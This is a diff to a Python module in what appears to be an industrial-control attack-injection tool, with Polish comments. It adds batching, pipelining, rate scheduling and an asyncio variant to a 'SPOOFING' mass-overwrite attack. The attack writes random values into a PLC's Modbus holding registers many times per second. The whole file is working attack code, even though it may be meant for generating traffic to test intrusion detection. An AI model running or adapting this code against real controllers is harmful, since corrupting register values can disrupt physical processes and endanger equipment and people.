@@ -3,14 +3,21 @@
 import logging
 import random
 import time
-from typing import Sequence
+from typing import List, Sequence, Tuple
 
 from injector.core.config import PlcConfig
-from injector.core.modbus import write_holding_register
+from injector.core.modbus import PipelinedModbusClient, PipelinedResult, RequestBatcher, plan_writes
+from injector.core.metrics import endpoint_of, get_metrics
+from injector.core.scheduler import RateSchedule, current_name, get_scheduler, make_arrival
+from pymodbus.exceptions import ConnectionException
 
 log = logging.getLogger(__name__)
 
 
+def _pick_writes(targets: List[int], n: int, min_value: int, max_value: int) -> List[Tuple[int, int]]:
+    return [(random.choice(targets), random.randint(min_value, max_value)) for _ in range(max(1, n))]
+
+
 def run_spoofing(
     *,
     cfg: PlcConfig,
@@ -19,42 +26,146 @@ def run_spoofing(
     qps: float = 20.0,
     min_value: int = 0,
     max_value: int = 1000,
+    pipeline_window: int = 0,
+    arrival: str = "fixed",
+    writes_per_tick: int = 1,
+    fold_fc16: bool = False,
 ) -> None:
     """
     Atak SPOOFING:
     - losowo wybiera rejestr z target_registers,
     - zapisuje losową wartość z [min_value, max_value],
-    - robi to w przybliżeniu qps razy na sekundę.
+    - robi to qps razy na sekundę wg procesu arrival
+      ("fixed" | "jitter" | "poisson" | "burst", injector.core.scheduler),
+    - pipeline_window > 0: zapisy idą przez PipelinedModbusClient (wiele FC6 w locie),
+    - writes_per_tick > 1: tyle zapisów w jednym ticku; fold_fc16=True składa
+      zapisy pod ciągłe adresy w jedno FC16 (plan_writes), inaczej każdy to osobne FC6.
     """
 
     if not target_registers:
         log.warning("Spoofing: empty target_registers, nothing to do.")
         return
 
-    period = 1.0 / qps if qps > 0 else 0.0
+    schedule = get_scheduler().register(current_name("MASS_OVERWRITE"), make_arrival(arrival, qps))
 
     log.info(
-        "Starting SPOOFING: targets=%s, qps=%.1f, value_range=[%d, %d]",
+        "Starting SPOOFING: targets=%s, qps=%.1f (%s), value_range=[%d, %d], pipeline_window=%d, "
+        "writes_per_tick=%d, fold_fc16=%s",
         list(target_registers),
         qps,
+        arrival,
         min_value,
         max_value,
+        pipeline_window,
+        writes_per_tick,
+        fold_fc16,
     )
 
-    try:
-        while not stop_event.is_set():
-            addr = random.choice(list(target_registers))
-            val = random.randint(min_value, max_value)
+    targets = list(target_registers)
+    if pipeline_window > 0:
+        _run_spoofing_pipelined(cfg, stop_event, targets, schedule,
+                                min_value, max_value, pipeline_window, writes_per_tick, fold_fc16)
+        return
 
+    endpoint = endpoint_of(cfg)
+    batcher = RequestBatcher(allow_fc16=fold_fc16, series={
+        6: get_metrics().series(schedule.name, 6, endpoint),
+        16: get_metrics().series(schedule.name, 16, endpoint),
+    })
+    try:
+        while schedule.wait(stop_event):
+            writes = _pick_writes(targets, writes_per_tick, min_value, max_value)
+            for addr, val in writes:
+                batcher.write(addr, val)
             try:
-                write_holding_register(addr, val, cfg=cfg)
-                log.info("Spoofing wrote HR[%d] = %d", addr, val)
+                if not batcher.flush_pooled(cfg):
+                    log.info("Spoofing wrote %s", ", ".join(f"HR[{a}] = {v}" for a, v in writes))
             except Exception as e:
-                log.warning(
-                    "Spoofing exception on write HR[%d]=%d: %r", addr, val, e
-                )
+                log.warning("Spoofing exception on writes %s: %r", writes, e)
+    finally:
+        log.info("Spoofing batcher stats: %s", batcher.stats())
+        log.info("Spoofing: stop_event set, leaving loop.")
+
+
+def _on_spoof_result(res: PipelinedResult) -> None:
+    if res.timed_out:
+        log.warning("Spoofing timeout on write HR[%d]", res.address)
+    elif not res.ok:
+        log.warning("Spoofing error on write HR[%d]: exception code %s", res.address, res.exception_code)
+    else:
+        log.debug("Spoofing wrote HR[%d]", res.address)
+
+
+def _run_spoofing_pipelined(
+    cfg: PlcConfig,
+    stop_event,
+    targets: List[int],
+    schedule: RateSchedule,
+    min_value: int,
+    max_value: int,
+    window: int,
+    writes_per_tick: int = 1,
+    fold_fc16: bool = False,
+) -> None:
+    client = PipelinedModbusClient.from_cfg(cfg, window=window)
+    client.connect()
+    try:
+        while schedule.wait(stop_event):
+            writes = _pick_writes(targets, writes_per_tick, min_value, max_value)
+            try:
+                # bez drain() po ticku - PDU z planu lecą w oknie jak pojedyncze FC6
+                for w in plan_writes(writes, allow_fc16=fold_fc16):
+                    if w.func == 16:
+                        client.write_registers(w.address, w.values, callback=_on_spoof_result)
+                    else:
+                        client.write_register(w.address, w.values[0], callback=_on_spoof_result)
+                client.poll(0.0)
+            except ConnectionException as e:
+                log.warning("Spoofing connection error on writes %s: %s", writes, e)
+                time.sleep(1.0)
+                client.reconnect()
 
-            if period > 0:
-                time.sleep(period)
+        client.drain(timeout=client.timeout_s)
     finally:
+        log.info("Spoofing pipelined stats: %s", client.stats())
+        client.close()
         log.info("Spoofing: stop_event set, leaving loop.")
+
+
+async def spoofing_task(
+    client,
+    cfg: PlcConfig,
+    target_registers: Sequence[int] = (),
+    qps: float = 20.0,
+    min_value: int = 0,
+    max_value: int = 1000,
+    arrival: str = "fixed",
+    writes_per_tick: int = 1,
+    fold_fc16: bool = False,
+) -> None:
+    """
+    Wersja asyncio ataku SPOOFING (mass overwrite) dla AsyncTrafficEngine.
+    Kończy się przez anulowanie taska.
+    """
+    if not target_registers:
+        log.warning("Spoofing: empty target_registers, nothing to do.")
+        return
+
+    targets = list(target_registers)
+    schedule = get_scheduler().register(current_name("MASS_OVERWRITE"), make_arrival(arrival, qps))
+    endpoint = endpoint_of(cfg)
+    batcher = RequestBatcher(allow_fc16=fold_fc16, series={
+        6: get_metrics().series(schedule.name, 6, endpoint),
+        16: get_metrics().series(schedule.name, 16, endpoint),
+    })
+
+    while True:
+        await schedule.wait_async()
+        writes = _pick_writes(targets, writes_per_tick, min_value, max_value)
+        for addr, val in writes:
+            batcher.write(addr, val)
+        try:
+            if not await batcher.flush_async(client, cfg.unit_id):
+                log.info("Spoofing wrote %s", ", ".join(f"HR[{a}] = {v}" for a, v in writes))
+        except Exception as e:
+            log.warning("Spoofing exception on writes %s: %r", writes, e)